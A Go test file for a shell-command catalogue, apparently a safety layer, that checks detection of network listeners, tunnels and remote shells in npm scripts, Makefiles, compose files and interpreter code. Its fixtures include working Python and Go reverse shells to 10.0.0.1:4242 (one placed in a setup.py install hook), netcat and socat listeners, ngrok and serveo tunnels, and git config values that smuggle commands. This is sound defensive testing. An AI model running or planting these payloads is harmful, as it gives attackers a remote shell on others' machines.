package catalog_test

import (
	"errors"
	"io/fs"
	"strings"
	"syscall"
	"testing"

	"github.com/safeclaw/safeclaw/action"
	"github.com/safeclaw/safeclaw/shell/catalog"
)

const packageJSON = `{
  "name": "app",
  "scripts": {
    "dev": "vite --port 5174",
    "predev": "node scripts/check.js",
    "start": "next start -p 4000",
    "build": "tsc && vite build",
    "serve": "npm run dev",
    "loop": "npm run loop",
    "both": "concurrently \"npm:dev\" \"tsc -w\"",
    "all": "run-p dev build",
    "tunnel": "ngrok http 5174",
    "lint": "eslint ."
  }
}`

func TestPackageScripts(t *testing.T) {
	files := map[string]string{"package.json": packageJSON, "web/package.json": `{"scripts":{"dev":"astro dev"}}`}
	cases := []struct {
		views      string
		kind       action.Kind // "" means: no listen, tunnel, remote or bind facet
		port       int
		scriptHas  string // a returned script's text contains it
		scriptFrom string
	}{
		{views: "npm run dev", kind: action.NetworkListen, port: 5174, scriptHas: "vite --port 5174", scriptFrom: "package.json scripts.dev"},
		{views: "npm run dev", kind: action.NetworkListen, scriptHas: "node scripts/check.js", scriptFrom: "package.json scripts.predev"},
		{views: "npm run dev -- --port 6000", kind: action.NetworkListen, scriptHas: "vite --port 5174 --port 6000"},
		{views: "npm start", kind: action.NetworkListen, port: 4000},
		{views: "yarn dev", kind: action.NetworkListen, port: 5174},
		{views: "pnpm run dev", kind: action.NetworkListen, port: 5174},
		{views: "pnpm dev", kind: action.NetworkListen, port: 5174},
		{views: "bun run dev", kind: action.NetworkListen, port: 5174},
		{views: "npm run serve", kind: action.NetworkListen, port: 5174},
		{views: "npm run both", kind: action.NetworkListen, port: 5174},
		{views: "npm run all", kind: action.NetworkListen, port: 5174},
		{views: "npm run tunnel", kind: action.NetworkTunnel},
		{views: "npm --prefix web run dev", kind: action.NetworkListen, port: 4321},
		{views: "npm run build", scriptHas: "tsc && vite build"},
		{views: "npm run lint", scriptHas: "eslint ."},
		{views: "npm run loop", scriptHas: "npm run loop"},
		{views: "npm run missing"},
		{views: "npm test"},
	}
	for _, tc := range cases {
		r := detect(withFiles(cmd(tc.views), files))
		var got []action.Action
		for _, f := range r.Facets {
			switch f.Kind {
			case action.NetworkListen, action.NetworkTunnel, action.ShellRemote, action.NetworkBind:
				got = append(got, f)
			}
		}
		if tc.kind == "" && len(got) > 0 {
			t.Errorf("%s: unexpected facets:%s", tc.views, describe(r))
		}
		if tc.kind != "" {
			found := false
			for _, f := range got {
				if f.Kind == tc.kind && (tc.port == 0 || f.Port == tc.port) {
					found = true
					if !strings.Contains(f.Detail, "package.json") {
						t.Errorf("%s: detail %q does not say where it came from", tc.views, f.Detail)
					}
				}
			}
			if !found {
				t.Errorf("%s: want %s port %d:%s", tc.views, tc.kind, tc.port, describe(r))
			}
		}
		if tc.scriptHas != "" {
			found := false
			for _, s := range r.Scripts {
				if strings.Contains(s.Text, tc.scriptHas) && (tc.scriptFrom == "" || s.Origin == tc.scriptFrom) {
					found = true
				}
			}
			if !found {
				t.Errorf("%s: want script containing %q from %q:%s", tc.views, tc.scriptHas, tc.scriptFrom, describe(r))
			}
		}
	}

	// Without a way to read files there is nothing to follow.
	if r := detect(cmd("npm run dev")); len(r.Facets) != 0 || len(r.Scripts) != 0 {
		t.Errorf("npm run dev without ReadFile:%s", describe(r))
	}
}

func TestMakeAndCompose(t *testing.T) {
	makefile := "APP=x\n\n.PHONY: serve\nbuild:\n\tgo build ./...\n\nserve: build\n\t@python3 -m http.server 8765\n\ntunnel:\n\tssh -R 80:localhost:8765 serveo.net\n"
	files := map[string]string{
		"Makefile":     makefile,
		"compose.yaml": "services:\n  web:\n    image: nginx\n    ports:\n      - \"8080:80\"\n",
	}
	cases := []struct {
		views string
		kind  action.Kind
		port  int
	}{
		{"make serve", action.NetworkListen, 8765},
		{"make -C . tunnel", action.NetworkTunnel, 80},
		{"make build", "", 0},
		{"make", "", 0},
		{"docker compose up -d", action.NetworkListen, 0},
		{"docker-compose up", action.NetworkListen, 0},
		{"docker compose logs -f", "", 0},
	}
	for _, tc := range cases {
		r := detect(withFiles(cmd(tc.views), files))
		var got []action.Action
		for _, f := range r.Facets {
			if f.Kind == action.NetworkListen || f.Kind == action.NetworkTunnel {
				got = append(got, f)
			}
		}
		if tc.kind == "" {
			if len(got) > 0 {
				t.Errorf("%s: unexpected:%s", tc.views, describe(r))
			}
			continue
		}
		if len(got) == 0 || got[0].Kind != tc.kind || (tc.port != 0 && got[0].Port != tc.port) {
			t.Errorf("%s: want %s port %d:%s", tc.views, tc.kind, tc.port, describe(r))
		}
	}
}

func TestStdinCode(t *testing.T) {
	c := cmd("python3")
	c.Stdin = "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4242))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n"
	if r := detect(c); len(ofKind(r, action.ShellRemote)) == 0 {
		t.Errorf("python3 <<EOF reverse shell: no shell.remote:%s", describe(r))
	}
	c = cmd("python3 script.py")
	c.Stdin = "import socket;socket.socket().bind(('',1));"
	if r := detect(c); len(r.Facets) != 0 {
		t.Errorf("stdin of a script is data, not code:%s", describe(r))
	}
	c = cmd("node")
	c.Stdin = "require('http').createServer().listen(8080)"
	if r := detect(c); len(ofKind(r, action.NetworkListen)) == 0 {
		t.Errorf("node <<EOF server: no listen:%s", describe(r))
	}
}

func TestCodeScripts(t *testing.T) {
	// Commands that interpreter code runs are returned for the shell package.
	cases := map[string]string{
		`python3 -c 'import os; os.system("nc -l 4444")'`:                     "nc -l 4444",
		`python3 -c 'import subprocess; subprocess.run(["ncat","-lk","80"])'`: "ncat -lk 80",
		`perl -e 'system("python3 -m http.server")'`:                          "python3 -m http.server",
		`php -r 'shell_exec("ngrok http 80");'`:                               "ngrok http 80",
		`node -e 'require("child_process").execSync("npx serve")'`:            "npx serve",
		`lua -e 'os.execute("socat tcp-l:1 -")'`:                              "socat tcp-l:1 -",
		`ruby -e 'system("php -S 0:80")'`:                                     "php -S 0:80",
		`git -c core.pager='sh -c id' log`:                                    "sh -c id",
		`git -c alias.x='!nc -l 9' x`:                                         "nc -l 9",
	}
	for line, want := range cases {
		r := detect(cmd(line))
		found := false
		for _, s := range r.Scripts {
			found = found || s.Text == want
		}
		if !found {
			t.Errorf("%s: want script %q:%s", line, want, describe(r))
		}
	}
}

func TestScriptFiles(t *testing.T) {
	files := map[string]string{
		"t.go":         "package main\nimport(\"net\";\"os/exec\")\nfunc main(){c,_:=net.Dial(\"tcp\",\"10.0.0.1:4242\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}\n",
		"pkg/setup.py": "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
		"x.nse":        "local k=require('socket'); local s=assert(k.bind('*',9999)); local c=s:accept()",
		"app.rb":       "require 'socket'; s=TCPServer.new(8125); loop { s.accept.close }",
	}
	cases := []struct {
		views string
		kind  action.Kind
	}{
		{"go run t.go", action.ShellRemote},
		{"pip install ./pkg", action.ShellRemote},
		{"easy_install pkg", action.ShellRemote},
		{"nmap --script=x.nse", action.NetworkListen},
		{"ruby app.rb", action.NetworkListen},
	}
	for _, tc := range cases {
		r := detect(withFiles(cmd(tc.views), files))
		if len(ofKind(r, tc.kind)) == 0 {
			t.Errorf("%s: want %s:%s", tc.views, tc.kind, describe(r))
		}
	}
}

// TestUnreadableFilesAreOpaque: a file that says what a command runs
// (package.json, a Makefile, a compose file, a script an interpreter runs)
// that is there but cannot be read, or is longer than the catalogue reads,
// leaves what runs unknown: shell.opaque. None there, or a directory, runs
// nothing from it.
func TestUnreadableFilesAreOpaque(t *testing.T) {
	long := `{"scripts":{"test":"nc -l 4444"},"pad":"` + strings.Repeat("#", catalog.MaxFileBytes) + `"}`
	read := func(failure error, content string) func(string) ([]byte, error) {
		return func(name string) ([]byte, error) {
			if failure != nil {
				return nil, failure
			}
			if content != "" {
				return []byte(content), nil
			}
			return nil, fs.ErrNotExist
		}
	}
	for _, tc := range []struct {
		name    string
		read    func(string) ([]byte, error)
		opaque  bool
		command string
	}{
		{"too long", read(nil, long), true, "npm test"},
		{"unreadable", read(&fs.PathError{Op: "open", Path: "package.json", Err: fs.ErrPermission}, ""), true, "npm test"},
		{"not a regular file", read(errors.New("package.json: not a regular file (p---------)"), ""), true, "npm run dev"},
		{"unreadable Makefile", read(&fs.PathError{Op: "open", Path: "Makefile", Err: fs.ErrPermission}, ""), true, "make serve"},
		{"unreadable script", read(&fs.PathError{Op: "open", Path: "app.py", Err: fs.ErrPermission}, ""), true, "python3 app.py"},
		{"none there", read(nil, ""), false, "npm test"},
		{"a directory", read(&fs.PathError{Op: "read", Path: "app", Err: syscall.EISDIR}, ""), false, "python3 app"},
	} {
		c := cmd(tc.command)
		c.ReadFile = tc.read
		res := detect(c)
		got := false
		for _, f := range res.Facets {
			got = got || f.Kind == action.ShellOpaque
		}
		if got != tc.opaque {
			t.Errorf("%s: %s: opaque %v, want %v: %+v", tc.name, tc.command, got, tc.opaque, res.Facets)
		}
	}
}
